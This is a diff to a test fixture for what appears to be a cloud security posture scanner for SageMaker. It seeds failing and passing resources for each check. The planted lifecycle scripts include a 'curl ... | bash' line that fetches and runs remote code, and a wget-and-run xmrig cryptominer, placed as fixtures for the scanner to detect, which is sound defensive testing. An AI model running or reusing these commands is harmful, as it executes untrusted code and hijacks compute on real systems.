@@ -38,6 +38,17 @@ export const EXPECTED: Record<string, { fails: string[]; passes: string[] }> = {
   'notebook-runs-suspicious-script': { fails: ['us-east-1/nb-planted'], passes: ['us-east-1/nb-benign-lcc'] },
   'lifecycle-script-suspicious': { fails: ['us-east-1/lcc-planted', 'eu-west-1/lcc-eu-miner'], passes: ['us-east-1/lcc-benign', 'us-east-1/lcc-secret'] },
   'lifecycle-script-secret': { fails: ['us-east-1/lcc-secret'], passes: ['us-east-1/lcc-benign', 'us-east-1/lcc-planted'] },
+  'studio-lifecycle-script-suspicious': { fails: ['us-east-1/studio-lcc-planted'], passes: ['us-east-1/studio-lcc-benign', 'us-east-1/studio-lcc-secret'] },
+  'studio-lifecycle-script-secret': { fails: ['us-east-1/studio-lcc-secret'], passes: ['us-east-1/studio-lcc-benign'] },
+  'domain-public-internet': { fails: ['us-east-1/d-public', 'us-east-1/d-default'], passes: ['us-east-1/d-secure'] },
+  'domain-no-kms-key': { fails: ['us-east-1/d-no-kms'], passes: ['us-east-1/d-secure'] },
+  'domain-runs-suspicious-script': { fails: ['us-east-1/d-planted'], passes: ['us-east-1/d-benign-lcc'] },
+  'endpoint-config-no-kms-key': { fails: ['us-east-1/ep-no-kms-config'], passes: ['us-east-1/ep-secure-config', 'us-east-1/ep-serverless-config'] },
+  'endpoint-single-instance': { fails: ['us-east-1/ep-single-config'], passes: ['us-east-1/ep-secure-config', 'us-east-1/ep-serverless-config'] },
+  'endpoint-data-capture-outside-account': { fails: ['us-east-1/ep-capture-foreign-config'], passes: ['us-east-1/ep-capture-own-config'] },
+  'model-network-isolation': { fails: ['us-east-1/ep-open-model'], passes: ['us-east-1/ep-secure-model'] },
+  'model-outside-vpc': { fails: ['us-east-1/ep-no-vpc-model'], passes: ['us-east-1/ep-secure-model'] },
+  'model-foreign-image': { fails: ['us-east-1/ep-foreign-model'], passes: ['us-east-1/ep-secure-model', 'us-east-1/ep-dlc-model'] },
 };
 
 export async function startPostureWorld(): Promise<PostureWorld> {
@@ -61,6 +72,27 @@ export async function startPostureWorld(): Promise<PostureWorld> {
   sm.seed.lifecycleConfig(east, 'lcc-planted', { onStart: [PLANTED_SCRIPT] });
   sm.seed.lifecycleConfig(east, 'lcc-benign', { onCreate: [BENIGN_SCRIPT], onStart: ['#!/bin/bash\necho started\n'] });
   sm.seed.lifecycleConfig(east, 'lcc-secret', { onStart: [SECRET_SCRIPT] });
+  // Studio: one script planted, one benign, one holding a token; domains failing and passing each check.
+  const plantedStudio = sm.seed.studioLifecycleConfig(east, 'studio-lcc-planted', '#!/bin/bash\ncurl -s http://198.51.100.7/i.sh | bash\n');
+  const benignStudio = sm.seed.studioLifecycleConfig(east, 'studio-lcc-benign', '#!/bin/bash\npip install --quiet jupyterlab-lsp\n');
+  sm.seed.studioLifecycleConfig(east, 'studio-lcc-secret', '#!/bin/bash\nexport HF_TOKEN=hf_abcdefghijklmnopqrstuvwxyz0123456789\n', 'CodeEditor');
+  sm.seed.domain(east, 'd-secure');
+  sm.seed.domain(east, 'd-public', { AppNetworkAccessType: 'PublicInternetOnly' });
+  sm.seed.domain(east, 'd-default', { AppNetworkAccessType: undefined });
+  sm.seed.domain(east, 'd-no-kms', { KmsKeyId: undefined });
+  sm.seed.domain(east, 'd-planted', { DefaultUserSettings: { ExecutionRole: 'arn:aws:iam::111122223333:role/SageMakerStudio', JupyterLabAppSettings: { LifecycleConfigArns: [benignStudio, plantedStudio] } } });
+  sm.seed.domain(east, 'd-benign-lcc', { DefaultSpaceSettings: { JupyterLabAppSettings: { DefaultResourceSpec: { LifecycleConfigArn: benignStudio } } } });
+  // Inference: an endpoint per check, failing or passing it.
+  sm.seed.endpoint(east, 'ep-secure');
+  sm.seed.endpoint(east, 'ep-serverless', { config: { KmsKeyId: undefined, ProductionVariants: [{ VariantName: 'AllTraffic', ModelName: 'ep-serverless-model', ServerlessConfig: { MemorySizeInMB: 2048, MaxConcurrency: 5 } }] } });
+  sm.seed.endpoint(east, 'ep-no-kms', { config: { KmsKeyId: undefined } });
+  sm.seed.endpoint(east, 'ep-single', { config: { ProductionVariants: [{ VariantName: 'AllTraffic', ModelName: 'ep-single-model', InstanceType: 'ml.m5.large', InitialInstanceCount: 1 }] } });
+  sm.seed.endpoint(east, 'ep-capture-foreign', { config: { DataCaptureConfig: { EnableCapture: true, InitialSamplingPercentage: 100, DestinationS3Uri: 's3://capture-bucket/fraud/', KmsKeyId: 'arn:aws:kms:us-east-1:444455556666:key/1234abcd-12ab-34cd-56ef-1234567890ab', CaptureOptions: [{ CaptureMode: 'Input' }, { CaptureMode: 'Output' }] } } });
+  sm.seed.endpoint(east, 'ep-capture-own', { config: { DataCaptureConfig: { EnableCapture: true, InitialSamplingPercentage: 100, DestinationS3Uri: 's3://capture-111122223333/fraud/', KmsKeyId: 'arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab', CaptureOptions: [{ CaptureMode: 'Input' }] } } });
+  sm.seed.endpoint(east, 'ep-open', { model: { EnableNetworkIsolation: false } });
+  sm.seed.endpoint(east, 'ep-no-vpc', { model: { VpcConfig: undefined } });
+  sm.seed.endpoint(east, 'ep-foreign', { model: { PrimaryContainer: { Image: '444455556666.dkr.ecr.us-east-1.amazonaws.com/fraud:latest', ModelDataUrl: 's3://models-111122223333/m/model.tar.gz' } } });
+  sm.seed.endpoint(east, 'ep-dlc', { model: { PrimaryContainer: { Image: '763104351884.dkr.ecr.us-east-1.amazonaws.com/pytorch-inference:2.1.0-cpu-py310', ModelDataUrl: 's3://models-111122223333/m/model.tar.gz' } } });
   sm.seed.notebook('eu-west-1', 'nb-eu-secure');
   sm.seed.lifecycleConfig('eu-west-1', 'lcc-eu-miner', { onCreate: ['#!/bin/bash\nwget -q https://198.51.100.9/xmrig -O /tmp/x && chmod +x /tmp/x\n/tmp/x -o stratum+tcp://pool.example.net:3333\n'] });
   return { fake, sm };
